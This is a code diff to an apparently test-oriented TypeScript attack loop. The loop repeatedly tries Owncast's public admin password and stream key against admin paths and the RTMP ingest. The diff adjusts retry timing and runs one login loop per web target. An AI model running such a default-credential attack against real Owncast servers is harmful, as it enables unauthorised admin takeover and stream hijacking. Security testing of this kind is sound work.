@@ -34,7 +34,7 @@ export interface RunningAttack {
 }
 
 /** Tries are frequent while no server responds, so that they meet its first moments. Later each log-in costs Owncast 75 ms. */
-const pauseMs = (answered: boolean): number => (answered ? 1000 : 20);
+const pauseMs = (answered: boolean): number => (answered ? 1000 : 100);
 
 /** Tries the public password and key in a loop until it is stopped. Servers may start later. */
 export function startAttack({ web, rtmpPort }: AttackTargets): RunningAttack {
@@ -49,10 +49,10 @@ export function startAttack({ web, rtmpPort }: AttackTargets): RunningAttack {
     admin.answered += 1;
     if (status === 200) admin.won += 1;
   };
-  const tryAdmin = async () => {
+  const tryAdmin = async (target: RawTarget) => {
     while (running) {
       const { answered } = admin;
-      for (const target of web) for (const path of adminPaths) await tryPath(target, path).catch(() => {});
+      for (const path of adminPaths) await tryPath(target, path).catch(() => {});
       await sleep(pauseMs(admin.answered > answered));
     }
   };
@@ -70,7 +70,7 @@ export function startAttack({ web, rtmpPort }: AttackTargets): RunningAttack {
       if (camera.statuses().some(({ code }) => code === "NetStream.Publish.Start")) ingest.won += 1;
     }
   };
-  const loops = [tryAdmin(), tryIngest()];
+  const loops = [...web.map(tryAdmin), tryIngest()];
   return {
     soFar: () => ({ admin, ingest }),
     async stop() {
